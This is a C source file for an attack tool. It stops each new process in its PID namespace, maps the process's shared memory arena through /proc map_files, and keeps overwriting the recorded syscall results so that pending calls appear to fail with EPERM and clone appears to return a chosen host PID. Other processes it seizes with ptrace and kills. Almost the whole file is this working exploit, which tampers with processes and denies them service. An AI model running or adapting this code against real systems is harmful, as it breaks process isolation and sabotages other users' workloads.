/* Takes every new process of its PID namespace before its first steps, in one way after the other, and prints which:
   "killed" and "continued": it keeps the memory of the calls that the process still has to make, and writes into it
   that all failed, and that the process is the one of the host with the number in its argument.
   "buried": it traces the process, kills it, and never waits for it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ARENA 0x1000000000UL
#define WORDS (1 << 16)
#define ROW 11
#define NOT_REACHED -4096

static int64_t *memory_of(int pid) {
	char path[300];
	snprintf(path, sizeof path, "/proc/%d/map_files", pid);
	DIR *directory = opendir(path);
	if (!directory) return 0;
	int fd = -1;
	for (struct dirent *entry; (entry = readdir(directory));)
		if (strtoul(entry->d_name, 0, 16) == ARENA) {
			snprintf(path, sizeof path, "/proc/%d/map_files/%s", pid, entry->d_name);
			fd = open(path, O_RDWR);
		}
	closedir(directory);
	if (fd < 0) return 0;
	long size = lseek(fd, 0, SEEK_END) & ~4095L;
	int64_t *memory = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return memory == MAP_FAILED ? 0 : memory;
}

static void forge(int64_t *memory, int64_t victim, int64_t first) {
	memory[1] = victim;
	for (int64_t *row = memory + first; row[0] > 0 && row[0] < 500; row += ROW) {
		if (row[0] == SYS_clone) row[10] = victim;
		else if (row[10] == NOT_REACHED) row[10] = -EPERM;
	}
}

/* A row begins with the number of a call; the first one is prctl. */
static void keep(int64_t *memory, int64_t victim) {
	int64_t first = memory[1] == SYS_prctl ? 1 : 2;
	if (fork()) return;
	for (int round = 0; round < 20000; round++) forge(memory, victim, first);
	_exit(0);
}

static void say(const char *what) {
	if (write(1, what, strlen(what)) < 0) _exit(1);
}

int main(int count, char **arguments) {
	int64_t victim = atoll(arguments[1]);
	signal(SIGCHLD, SIG_IGN);
	say("ready\n");
	for (int turn = 0, last = getpid();;) {
		/* The next numbers are the next processes. */
		int pid = 0;
		for (int next = last + 1; next < last + 32 && !pid; next++)
			if (kill(next, SIGSTOP) == 0) pid = next;
		if (!pid) continue;
		last = pid;
		if (turn % 3 == 2) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) say("buried\n"), turn++;
			kill(pid, SIGKILL);
			continue;
		}
		int64_t *memory = memory_of(pid);
		if (memory) {
			keep(memory, victim);
			last += 1;
			say(turn % 3 == 0 ? "killed\n" : "continued\n");
		}
		kill(pid, memory && turn % 3 == 0 ? SIGKILL : SIGCONT);
		if (memory) turn++;
	}
}
